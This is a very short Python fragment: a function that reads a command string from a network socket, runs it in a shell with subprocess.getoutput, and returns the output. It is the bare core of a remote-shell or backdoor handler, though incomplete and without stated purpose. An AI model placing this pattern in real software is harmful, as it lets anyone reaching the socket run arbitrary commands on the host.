def loop(sock):
    cmd = sock.recv(1024).decode()
    out = subprocess.getoutput(cmd)
    return out
